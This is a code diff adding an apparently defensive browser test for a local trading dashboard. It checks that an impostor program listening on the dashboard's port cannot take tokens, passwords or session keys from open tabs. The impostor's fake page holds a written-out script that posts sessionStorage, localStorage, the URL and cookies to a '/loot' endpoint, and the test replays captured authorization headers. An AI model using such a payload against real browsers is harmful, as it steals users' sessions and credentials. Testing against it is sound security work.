@@ -1,0 +1,181 @@
+/// <reference lib="dom" />
+/** Another program at the page's port, while the trader is stopped and a tab is open: all that the tab sends it opens nothing. */
+
+import { writeFileSync } from 'node:fs';
+import { createServer, type IncomingHttpHeaders } from 'node:http';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
+import { loadTraderConfig } from '../../../src/shell/config/load.js';
+import { openConsole } from '../../../src/shell/console/console.js';
+import { obtainPageToken } from '../../../src/shell/console/page-token.js';
+import { folderOf } from '../../support/folders.js';
+import { until } from '../../support/waiting.js';
+import { trader } from '../config/files.js';
+import { CHROMIUM, contextOf, openBrowser } from './browser.js';
+
+const LOOK = { scheme: 'light', width: 1280 } as const;
+const SHORT_PASSWORD = 'correct horse';
+
+interface Recorded {
+  readonly method: string;
+  readonly url: string;
+  readonly headers: IncomingHttpHeaders;
+  readonly body: string;
+}
+
+/** A console without a trader, and the same again at the same port. */
+function place() {
+  const cwd = folderOf({});
+  const open = async (port: number, secret = obtainPageToken(join(cwd, 'twinbook.sqlite'))) => {
+    writeFileSync(join(cwd, 'trader.yaml'), trader(`dashboard: { port: ${port}, start: false }`));
+    const config = loadTraderConfig('trader.yaml', { cwd, env: {} });
+    const guardian = { status: () => '', isGuarded: () => false };
+    const console = await openConsole({ config, secret, guardian, note: () => undefined });
+    onTestFinished(() => console.close());
+    return { url: console.url ?? '', port: Number(new URL(console.url ?? '').port), close: () => console.close() };
+  };
+  return { open, token: obtainPageToken(join(cwd, 'twinbook.sqlite')) };
+}
+
+/** What it answers to everything but a greeting and its own page; 401 makes a page greet it. */
+type Lie = 'a state' | 'no session';
+
+/** Records all requests, and answers as a console would, without the secret. */
+async function impersonate(port: number, greeting: object) {
+  const recorded: Recorded[] = [];
+  const lie = { now: 'a state' as Lie };
+  const server = createServer(async (request, reply) => {
+    let body = '';
+    for await (const chunk of request) body += String(chunk);
+    const { method = '', url = '', headers } = request;
+    recorded.push({ method, url, headers, body });
+    if (url === '/') {
+      reply.setHeader('content-type', 'text/html');
+      const loot = 'JSON.stringify([{ ...sessionStorage }, { ...localStorage }, location.href, document.cookie])';
+      return reply.end(`<p id="taken"></p><script>fetch('/loot', { method: 'POST', body: ${loot} })</script>`);
+    }
+    reply.setHeader('content-type', 'application/json');
+    if (url.startsWith('/session')) return reply.end(JSON.stringify({ ...greeting, open: true }));
+    reply.statusCode = lie.now === 'a state' ? 200 : 401;
+    return reply.end(JSON.stringify({ mode: 'taken', traders: [], sums: [], now: 1, error: 'no' }));
+  });
+  await new Promise<void>((done) => server.listen(port, '127.0.0.1', done));
+  const close = async () => {
+    server.closeAllConnections();
+    await new Promise((done) => server.close(done));
+  };
+  onTestFinished(close);
+  return { recorded, lie, close };
+}
+
+/** A greeting of the console, which the impostor sends again. */
+async function greetingOf(url: string): Promise<object> {
+  const response = await fetch(new URL('/session/greeting', url), {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ nonce: 'a'.repeat(64) }),
+  });
+  return (await response.json()) as object;
+}
+
+const bannerOf = (page: Page) => page.locator('#banner').textContent();
+const isIn = (page: Page) =>
+  until(
+    () => page.locator('#mode').textContent(),
+    (words) => words !== null && words !== '…',
+  );
+
+describe.skipIf(CHROMIUM === null)('another program at the port of the page', () => {
+  let browser: Browser;
+  beforeAll(async () => {
+    browser = await openBrowser();
+  });
+  afterAll(() => browser?.close());
+
+  test('learns nothing from open tabs, shows them nothing, and leaves them to the next console', async () => {
+    const { open, token } = place();
+    const first = await open(0);
+    const context = await contextOf(browser, LOOK);
+    onTestFinished(() => context.close());
+    const tabs = [await context.newPage(), await context.newPage()];
+    for (const tab of tabs) {
+      await tab.goto(`${first.url}#${token}`);
+      await isIn(tab);
+      expect(tab.url()).toBe(first.url);
+    }
+    const greeting = await greetingOf(first.url);
+    await first.close();
+
+    const impostor = await impersonate(first.port, greeting);
+    const areTold = async (words: RegExp) => {
+      for (const tab of tabs)
+        await until(
+          () => bannerOf(tab),
+          (banner) => words.test(banner ?? ''),
+        );
+    };
+    await areTold(/^Another program answers at this address/);
+    // A press is as useless to it as a look.
+    await tabs[0]?.keyboard.press('p');
+    impostor.lie.now = 'no session';
+    await until(
+      () => impostor.recorded.filter(({ url }) => url === '/session/greeting').length,
+      (count) => count >= 4,
+    );
+    await areTold(/^Another program answers at this address/);
+    for (const tab of tabs) expect(await tab.locator('#mode').textContent()).not.toContain('taken');
+    await impostor.close();
+    const { recorded } = impostor;
+    expect(JSON.stringify(recorded)).not.toContain(token);
+    // No tab proved anything in a handshake: it waits for the proof of the other side.
+    expect(recorded.filter(({ url, body }) => url === '/session' || body.includes('proof'))).toEqual([]);
+    const proven = recorded.filter(({ headers }) => headers.authorization?.startsWith('Twinbook '));
+    expect(proven.length).toBeGreaterThan(0);
+
+    const next = await open(first.port);
+    // Both by themselves, with the token that they have.
+    await areTold(/^$/);
+    const replayed = proven.map(async ({ method, url, headers, body }) => {
+      const { authorization = '' } = headers;
+      const again = { method, headers: { authorization, 'content-type': 'application/json' } };
+      return (await fetch(new URL(url, next.url), body === '' ? again : { ...again, body })).status;
+    });
+    expect(new Set(await Promise.all(replayed))).toEqual(new Set([401]));
+  });
+
+  test('reads no token from a tab that is reloaded there, and no key of the next console', async () => {
+    const { open } = place();
+    const first = await open(0, SHORT_PASSWORD);
+    const context = await contextOf(browser, LOOK);
+    onTestFinished(() => context.close());
+    const tab = await context.newPage();
+    await tab.goto(first.url);
+    await tab.locator('#secret').fill(SHORT_PASSWORD);
+    await tab.keyboard.press('Enter');
+    await isIn(tab);
+    // The console is the same, so a reload needs no password.
+    await tab.reload();
+    await isIn(tab);
+    const greeting = await greetingOf(first.url);
+    await first.close();
+    const impostor = await impersonate(first.port, greeting);
+    await tab.reload();
+    await tab.locator('#taken').waitFor({ state: 'attached' });
+    const loot = () => impostor.recorded.find(({ url }) => url === '/loot')?.body;
+    await until(loot, (text) => text !== undefined);
+    await impostor.close();
+    expect(JSON.stringify(impostor.recorded)).not.toContain(SHORT_PASSWORD);
+    const [{ 'twinbook-session': kept = '{}' }] = JSON.parse(loot() ?? '[{}]');
+    const { salt } = JSON.parse(kept);
+    const next = await open(first.port, SHORT_PASSWORD);
+    expect(greeting).toMatchObject({ salt });
+    expect(await greetingOf(next.url)).not.toMatchObject({ salt });
+    await tab.goto(next.url);
+    await until(
+      () => bannerOf(tab),
+      (banner) => banner?.startsWith('The dashboard was started again.') === true,
+    );
+    expect(await tab.locator('#secret').isVisible()).toBe(true);
+  });
+});
